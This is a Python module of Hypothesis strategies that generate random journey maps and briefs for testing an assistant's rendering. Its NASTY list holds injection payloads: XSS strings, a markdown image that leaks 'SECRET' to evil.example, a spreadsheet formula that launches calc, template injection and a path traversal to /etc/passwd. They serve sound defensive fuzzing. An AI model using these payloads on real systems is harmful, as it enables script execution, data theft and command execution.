"""Hypothesis strategies that build arbitrary valid maps and briefs, nasty texts included."""

import re
from typing import Any, get_args

from hypothesis import strategies as st

from assistant import brief as briefing
from assistant.brief import Brief, JourneyPart, Topic, Use
from assistant.model import (
    CHANNELS,
    KINDS,
    STAGES,
    Assumed,
    Assumption,
    Baseline,
    Business,
    Contradiction,
    Emotion,
    FromCard,
    FromSurvey,
    JourneyMap,
    Kpi,
    MomentOfTruth,
    Opportunity,
    OwnerSaid,
    PainPoint,
    Persona,
    RetentionTactic,
    Source,
    Stage,
    Statement,
    TopAction,
    Touchpoint,
)
from assistant.text import clean

NASTY = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style><script>alert(1)</script>",
    "</title><b>",
    "<!-- --><style>*{display:none}</style>",
    "javascript:alert(1)",
    "![x](https://evil.example/?q=SECRET)",
    "[a](javascript:alert(1))",
    "![x][r] [r]: https://evil.example/",
    "<https://evil.example/?d=1>",
    "https://evil.example/x",
    "www.evil.example",
    "mail me@evil.example",
    "| a | b |",
    "# heading",
    "- item",
    "1. first",
    "===",
    "---",
    "```js",
    "`code`",
    "&lt;b&gt; &#60;i&#62;",
    "{{ 7 * 7 }} {% raw %}",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "|calc",
    "%0A",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "a;=1+1;b",
    "calls at 9:30: 4: Me",
    "section two",
    "Title: x",
    "journey",
    "accTitle: x",
    "%% comment",
    "%%{init: {}}%%",
    "a #b ;c ,d",
    "Müller & Söhne – “Größe” 日本語 العربية 👩‍🍳",
    "../../etc/passwd",
    "CON",
    "null",
    "'",
    '"',
    "\\",
    "\\[x\\]",
    "x" * 600,
)

ODD = r"\x00-\x1f\x7f-\x9f<>&\"'`|=+\-@;:,#%\[\]{}()!*_~$^\\"


def lines() -> st.SearchStrategy[str]:
    """One cell's worth of words, as a validated `Line` holds it."""
    anything = st.one_of(
        st.sampled_from(NASTY), st.text(max_size=12), st.from_regex(rf"[{ODD}a ]{{1,8}}", fullmatch=True)
    )
    return anything.map(lambda text: re.sub(r"\s+", " ", clean(text))).filter(bool)


def texts() -> st.SearchStrategy[str]:
    """Words of a person, over several lines."""
    return st.lists(lines(), min_size=1, max_size=3).map(lambda parts: clean("\n".join(parts)))


def ids(kind: str | None = None) -> st.SearchStrategy[str]:
    """Ids of cards, of one kind or of any."""
    kinds = st.just(kind) if kind else st.sampled_from(KINDS)
    names = st.sampled_from(("one", "second-one", "x1", "a-b-c"))
    return st.builds("{}:{}".format, kinds, names)


def few(values: st.SearchStrategy[Any], least: int = 0, most: int = 2) -> st.SearchStrategy[Any]:
    """A short tuple of `values`."""
    return st.lists(values, min_size=least, max_size=most).map(tuple)


def maybe(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """One of `values`, or nothing."""
    return st.none() | values


turns = few(st.integers(0, 99), least=1)
said = st.builds(OwnerSaid, turns=turns, quote=texts())
asked = st.builds(FromSurvey, responses=few(lines(), least=1), quote=texts(), count=st.integers(1, 999))
bases = st.one_of(
    said,
    asked,
    st.builds(FromCard, cards=few(ids(), least=1)),
    st.builds(Assumed, why=lines(), cards=few(ids()), turns=few(st.integers(0, 99))),
)
statements = st.builds(Statement, text=lines(), basis=bases)
channels = st.sampled_from(CHANNELS)
efforts = st.sampled_from(("S", "M", "L"))
numbers = st.floats(-1e9, 1e9, allow_nan=False)
shares = st.floats(0, 100)
models = st.sampled_from(("b2c", "b2b", "both", "nonprofit"))

touchpoints = st.builds(
    Touchpoint,
    name=lines(),
    card=maybe(ids("touchpoint")),
    channel=channels,
    owner=st.sampled_from(("brand", "partner", "customer", "social")),
    status=st.sampled_from(("exists", "suggested")),
    basis=bases,
)
emotions = st.builds(Emotion, valence=st.integers(-2, 2), word=lines(), because=lines(), basis=bases)
opportunities = st.builds(
    Opportunity,
    text=lines(),
    answers=st.sampled_from(("pain-1", "pain-2", "pain-99")),
    tactic=ids("tactic"),
    kpi=ids("kpi"),
    reason=lines(),
    customer_value=lines(),
    business_value=lines(),
    effort=efforts,
    first_step=lines(),
    owner=lines(),
    basis=bases,
)
kpis = st.builds(
    Kpi,
    kpi=ids("kpi"),
    name=lines(),
    formula=lines(),
    unit=lines(),
    direction=st.sampled_from(("up", "down", "range")),
    baseline=maybe(st.builds(Baseline, value=numbers, unit=lines(), words=lines(), basis=said | asked)),
    target=maybe(lines()),
    how_to_measure=lines(),
    basis=bases,
)
retention = st.builds(
    RetentionTactic,
    tactic=ids("tactic"),
    name=lines(),
    trigger=lines(),
    action=lines(),
    channel=channels,
    timing=lines(),
    kpi=ids("kpi"),
    effort=efforts,
    caution=maybe(lines()),
    basis=bases,
)
personas = st.builds(Persona, name=lines(), who=lines(), goals=few(statements), worries=few(statements), basis=bases)
businesses = st.builds(
    Business,
    name=maybe(lines()),
    offer=lines(),
    model=models,
    industry=ids("industry"),
    place=maybe(lines()),
    price=maybe(lines()),
    basis=bases,
)
sources = st.builds(
    Source,
    id=ids() | st.just("turn:1"),
    kind=st.sampled_from(("turn", "response", "card")),
    title=lines(),
    text=texts() | st.text(max_size=20),
    strength=maybe(st.sampled_from(("strong", "some", "vendor", "practice", "against"))),
    cites=few(lines()),
)


@st.composite
def stages(draw: st.DrawFn, number: int) -> Stage:
    """Return one stage; `number` keeps the ids of its pains apart from those of other stages."""
    pains = [
        PainPoint(
            id=f"pain-{number * 10 + position}",
            text=draw(lines()),
            card=draw(maybe(ids("pain"))),
            severity=draw(st.integers(1, 3)),
            share=draw(maybe(shares)),
            basis=draw(bases),
        )
        for position in range(draw(st.integers(0, 2)))
    ]
    return Stage(
        id=draw(st.sampled_from(STAGES)),
        name=draw(lines()),
        customer_goal=draw(statements),
        actions=draw(few(statements, least=1)),
        thoughts=draw(few(statements, most=1)),
        touchpoints=draw(few(touchpoints)),
        emotion=draw(emotions),
        pains=tuple(pains),
        moment_of_truth=draw(maybe(st.builds(MomentOfTruth, why=lines(), basis=bases))),
        opportunities=draw(few(opportunities, most=1)),
        kpis=draw(few(kpis, most=1)),
        retention_tactics=draw(few(retention, most=1)),
        backstage=draw(maybe(statements)),
        owner=draw(lines()),
        basis=draw(bases),
    )


@st.composite
def maps(draw: st.DrawFn, most_stages: int = 3) -> JourneyMap:
    """Return an arbitrary valid map; valid means that the schema takes it, not that a review would praise it."""
    count = draw(st.integers(1, most_stages))
    actions = st.builds(
        TopAction,
        text=lines(),
        when=lines(),
        stage=st.integers(0, 9),
        tactic=ids("tactic"),
        kpi=ids("kpi"),
        effort=efforts,
        why=lines(),
        basis=bases,
    )
    return JourneyMap(
        title=draw(lines()),
        kind=draw(st.sampled_from(("current", "future", "day-in-the-life"))),
        business=draw(businesses),
        persona=draw(personas),
        scenario=draw(statements),
        stages=tuple(draw(stages(number)) for number in range(count)),
        top_actions=draw(few(actions)),
        contradictions=draw(
            few(st.builds(Contradiction, topic=lines(), owner_view=statements, customer_view=statements), most=1)
        ),
        kept_apart=draw(few(statements, most=1)),
        assumptions_to_validate=draw(
            few(st.builds(Assumption, text=lines(), find_out=lines(), method=maybe(ids("method")), basis=bases))
        ),
        notes=draw(few(lines())),
        sources=draw(few(sources, most=3)),
    )


def briefs() -> st.SearchStrategy[Brief]:
    """Arbitrary valid briefs."""
    heard = few(st.integers(0, 99))
    people = st.builds(
        briefing.Persona, name=lines(), who=lines(), goals=few(lines()), worries=few(lines()), turns=heard
    )
    uses = st.builds(
        briefing.ChannelUse,
        channel=channels,
        use=st.sampled_from(get_args(Use)),
        words=maybe(lines()),
        turns=heard,
    )
    hurts = st.builds(
        briefing.Pain, words=lines(), pain=maybe(ids("pain")), stage=maybe(st.sampled_from(STAGES)), turns=heard
    )
    counts = st.builds(briefing.Number, kpi=maybe(ids("kpi")), value=numbers, unit=lines(), words=lines(), turns=heard)
    means = st.builds(
        briefing.Resources,
        words=texts(),
        people=maybe(lines()),
        hours_a_week=maybe(st.floats(0, 1000)),
        budget=maybe(st.sampled_from(("none", "small", "some"))),
        tools=few(lines()),
    )
    return st.builds(
        Brief,
        business=st.builds(
            briefing.Business,
            name=maybe(lines()),
            offer=maybe(lines()),
            model=maybe(models),
            industry=maybe(ids("industry")),
            place=maybe(lines()),
            price=maybe(lines()),
        ),
        personas=few(people),
        goal=maybe(texts()),
        channels=few(uses),
        journey=st.builds(briefing.Journey, **{part: maybe(texts()) for part in get_args(JourneyPart)}),
        pains=few(hurts),
        numbers=few(counts),
        keeping=few(texts()),
        resources=maybe(means),
        unknown=few(st.sampled_from(get_args(Topic))),
        origins=few(st.builds(briefing.Origin, fact=lines(), turns=heard)),
        said=few(st.builds(briefing.Said, turn=st.integers(1, 99), text=texts())),
    )
